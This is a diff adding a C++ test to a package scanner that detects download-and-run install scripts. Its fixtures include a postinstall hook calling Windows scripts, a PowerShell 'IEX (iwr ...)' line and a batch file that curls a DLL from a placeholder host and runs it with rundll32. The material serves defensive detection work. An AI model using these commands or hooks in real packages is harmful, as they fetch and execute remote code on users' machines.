@@ -326,6 +326,30 @@ TEST(ShellFacts, ReadsPowerShellAndCmd) {
         "persistence how=run-key path=y\n");
 }
 
+std::string Windows(std::string_view script, std::string_view path, std::string_view text) {
+  const std::string manifest =
+      R"({"name":"a","version":"1.0.0","scripts":{"postinstall":")" + std::string(script) + "\"}}";
+  return Lines(
+      Only(ExtractFrom({{"package.json", manifest}, {path, text}}), "script.download-run"));
+}
+
+TEST(ShellFacts, FollowsFilesByThePathsOfWindows) {
+  constexpr std::string_view kPowerShell = "IEX (iwr http://h.example/a)";
+  const std::string run =
+      Windows(R"(powershell -File scripts\\a.ps1)", "scripts/a.ps1", kPowerShell);
+  EXPECT_NE(run.find("script.download-run [install] scripts/a.ps1"), std::string::npos) << run;
+  constexpr std::string_view kBatch =
+      "curl http://h.example/a -o b.dll\r\nrundll32 b.dll,Start\r\n";
+  for (const std::string_view script : {"start /B a.bat", "a.bat", R"(.\\a.bat)", "cmd /c a.bat"}) {
+    const std::string batch = Windows(script, "a.bat", kBatch);
+    EXPECT_NE(batch.find("script.download-run [install] a.bat"), std::string::npos)
+        << script << batch;
+  }
+  // In quotes a POSIX shell takes no backslash off either.
+  const std::string quoted = Windows(R"(echo 'a\\b' > c)", "a.bat", "");
+  EXPECT_EQ(quoted, "");
+}
+
 TEST(ShellFacts, IsBounded) {
   std::string text = "a=xxxxxxxxxxxxxxxx";
   for (int i = 0; i < 60; ++i) text += ";a=$a$a";
